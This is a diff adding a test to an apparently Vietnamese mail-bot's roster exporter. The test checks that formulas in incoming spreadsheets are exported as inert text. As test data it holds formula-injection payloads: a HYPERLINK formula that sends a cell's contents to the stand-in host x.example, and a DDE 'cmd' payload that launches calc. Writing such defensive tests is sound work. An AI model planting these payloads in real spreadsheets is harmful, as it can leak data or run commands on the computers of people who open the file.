@@ -228,3 +228,49 @@ def test_an_opendocument_spreadsheet() -> None:
     data = ods([["DANH SÁCH TRỰC"], ["STT", "Họ và tên", "Số điện thoại"], ["1", "Mai Văn Tài", "0913 777 888"]])
     rows = [r for s, t in dutylist.tables("DS truc.ods", data) for r in dutylist.rows_of(t, s)]
     assert [(r.name, r.phones[0].e164, r.source) for r in rows] == [("Mai Văn Tài", "+84913777888", "DS truc.ods › Trực")]
+
+
+def test_nothing_a_sender_wrote_becomes_a_live_formula_in_the_roster(tmp_path, smtp_server) -> None:
+    import csv as csvmod
+    import zipfile
+
+    import openpyxl
+
+    from tests.conftest import deliver, mailbot, write_config
+
+    hostile = '=HYPERLINK("http://x.example/?"&A1,"Bấm xem")'
+    wb = openpyxl.Workbook()
+    ws = wb.active
+    ws.append(["STT", "Họ và tên", "Chức vụ", "Bộ phận", "Điện thoại"])
+    ws.append([1, hostile, "+SUM(1,1)", "@cmd|' /C calc'!A0", "+84 913 777 888"])
+    ws.append([2, "-2+3", "Nhân viên", "=1+1", "0913 777 999"])
+    for row in ws.iter_rows(min_row=2):
+        for cell in row:
+            if isinstance(cell.value, str):
+                cell.data_type = "s"  # text in the carrier's file, as a careless copy-paste leaves it
+    buf = io.BytesIO()
+    wb.save(buf)
+    _, port = smtp_server
+    config = str(write_config(tmp_path, port))
+    deliver(tmp_path, build(sender="kt@vnpt.vn", subject="Danh sách trực", files=(("DS.xlsx", buf.getvalue()),)), "1")
+    assert mailbot("run", "--config", config, "--once").returncode == 0
+
+    rows = list(csvmod.DictReader(mailbot("roster", "--config", config, "--format", "csv").stdout.splitlines()))
+    first = next(r for r in rows if "HYPERLINK" in r["name"])
+    assert first["name"] == "'" + hostile and first["position"] == "'+SUM(1,1)"
+    assert first["unit"].startswith("'@") and first["phone"] == "+84913777888"  # a phone number stays as it is
+    assert next(r for r in rows if r["phone"] == "+84913777999")["unit"] == "'=1+1"
+    for row in rows:
+        for column, value in row.items():
+            assert not value.startswith(("=", "@", "-")), (column, value)
+            assert not value.startswith("+") or column in ("phone", "phone_display"), (column, value)
+
+    out = tmp_path / "roster.xlsx"
+    assert mailbot("roster", "--config", config, "--format", "xlsx", "--output", str(out)).returncode == 0
+    with zipfile.ZipFile(out) as z:
+        sheet_xml = z.read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula cell at all
+    sheet = openpyxl.load_workbook(out).active
+    names = [c.value for c in sheet["B"]]
+    assert hostile in names  # kept as the sender wrote it, as text
+    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
